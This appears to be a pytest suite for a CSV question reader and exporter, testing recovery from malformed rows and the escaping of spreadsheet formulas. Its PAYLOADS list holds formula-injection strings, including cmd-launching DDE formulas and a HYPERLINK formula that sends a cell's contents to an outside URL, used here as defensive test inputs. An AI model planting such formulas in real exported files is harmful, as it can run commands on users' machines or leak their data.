"""CSV that no program should have written, and that some do: nothing is lost but the broken row."""

from __future__ import annotations

import csv
import io
import random

import pytest

from kbtool.questions import read_questions
from kbtool.questions.formulas import guard_cell, restore_cell
from kbtool.render.questions.excluded_csv import render

GOOD = ["1", "8", "9"]
HEAD, TAIL = "id,question\n1,Where is my bill?\n", "8,Where is my card?\n9,Where is my code?\n"

# Name -> what stands between good rows, and how many rows of it cannot be read.
BROKEN = {
    "a quote that is never closed": ('2,"How do I pay?\n', 1),
    "two of them": ('2,"How do I pay?\n3,"How?\n', 2),
    "text after a closing quote": ('2,"How" do I pay?\n', 1),
    "a field of two million characters": (f"2,{'word ' * 400_000}\n", 1),
    "a line of nine million characters": (f"2,{'x' * 9_000_000}\n", 1),
    "a quoted field of a thousand lines": ('2,"' + "line\n" * 1_000 + '"\n', 1),
    "a row of ten thousand fields": ("2" + ",How?" * 10_000 + "\n", 1),
}


@pytest.mark.parametrize(("rows", "broken"), BROKEN.values(), ids=BROKEN)
def test_rows_around_a_broken_one_are_all_read(read_log, rows, broken):
    log = read_log(HEAD + rows + TAIL)
    assert {question.id for question in log.questions} >= set(GOOD)
    assert log.rejected[0].line == 3
    assert len([row for row in log.rejected if "quote" in row.reason]) <= broken
    assert all(len(row.text) <= 200 for row in log.rejected)


# Name -> the file, and the fields (id, question) that it holds.
SPECTRUM = {
    "simple": ("id,question\na,Where is b?", [("a", "Where is b?")]),
    "line ends of Windows": ("id,question\r\na,Where is b?\r\n", [("a", "Where is b?")]),
    "commas in quotes": ('id,question\na,"Where, or when?"', [("a", "Where, or when?")]),
    "empty fields": (
        'id,question,tags\na,"Where?",\nb,When?,""\n',
        [("a", "Where?"), ("b", "When?")],
    ),
    "empty fields, Windows": ('id,question,tags\r\na,Where?,""\r\n', [("a", "Where?")]),
    "quotes in quotes": ('id,question\na,"What is ""b""?"', [("a", 'What is "b"?')]),
    "JSON in a field": (
        'id,question\na,"Is {""type"": [1, 2]} right?"',
        [("a", 'Is {"type": [1, 2]} right?')],
    ),
    "coordinates": ('question,"id"\nWhere is 35°40′N?,"35,40"', [("35,40", "Where is 35°40′N?")]),
    "line ends in fields": (
        'id,question\na,"Where\nis b?"\nc,Who?\n',
        [("a", "Where is b?"), ("c", "Who?")],
    ),
    "line ends of Windows in fields": (
        'id,question\r\na,"Where\r\nis b?"\r\n',
        [("a", "Where is b?")],
    ),
    "quotes and line ends": ('id,question\na,"Is ""b""\nor c?"', [("a", 'Is "b" or c?')]),
    "letters of all kinds": ("id,question\nä,ʤ ключ 値段 ሀ?", [("ä", "ʤ ключ 値段 ሀ?")]),
    "a mark at the start": ("\ufeffid,question\na,Where is b?", [("a", "Where is b?")]),
    "a separator named": ("sep=;\r\nid;question\r\na;Where, b?\r\n", [("a", "Where, b?")]),
    "a separator named in capitals": ("SEP=|\nid|question\na|Where?", [("a", "Where?")]),
    "lines of blanks": ("id,question\n   \na,Where?\n\t\n", [("a", "Where?")]),
    "only quotes": ('"id","question"\n"a","Where is b?"\n"",""\n', [("a", "Where is b?")]),
    "a field of one apostrophe": ("id,question\n',What's that?", [("'", "What's that?")]),
}


@pytest.mark.parametrize(("content", "fields"), SPECTRUM.values(), ids=SPECTRUM)
def test_a_table_says_what_its_signs_mean(read_log, content, fields):
    log = read_log(content)
    assert [(question.id, question.text) for question in log.questions] == fields
    assert not log.rejected


def test_one_column_among_five_thousand_is_found(read_log):
    names = [f"column {number}" for number in range(5_000)]
    names[3_210] = "question"
    row = ["x"] * 5_000
    row[3_210] = "Where is my bill?"
    log = read_log(",".join(names) + "\n" + ",".join(row) + "\n")
    assert [question.text for question in log.questions] == ["Where is my bill?"]


def test_a_log_of_broken_quotes_alone_ends_soon_and_says_why(tmp_path):
    path = tmp_path / "log.csv"
    draw = random.Random(3)
    signs = ['"', '""', ",", "a", "\n", '","', " "]
    path.write_text("id,question\n1,Where is my bill?\n" + "".join(draw.choices(signs, k=60_000)))
    log = read_questions([path])
    assert log.questions[0].id == "1"
    assert log.rejected or log.excluded


# What spreadsheets run, or may be made to.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "'=1+1",
    "''@x",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text_and_read_back_as_it_was(read_log, payload):
    stream = io.StringIO(newline="")
    csv.writer(stream).writerows(
        [["id", "question"], ["1", "Where?"], ["1", f"{payload} is written"]]
    )
    log = read_log(stream.getvalue())
    (row,) = log.excluded
    text = render(log.excluded, header=True)
    cells = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert not any(cell.lstrip().startswith(tuple("=+-@\t\r＝＋－＠")) for cell in cells)
    (again,) = read_log(text, "excluded.csv").questions
    assert again.text == row.text


@pytest.mark.parametrize("text", [*PAYLOADS, "plain", "", "'", "it's", "'quoted'", "5-3", "\0=1"])
def test_a_guarded_cell_is_restored_to_the_letter(text):
    cell = guard_cell(text)
    assert restore_cell(cell) == text
    assert restore_cell(guard_cell(cell)) == cell
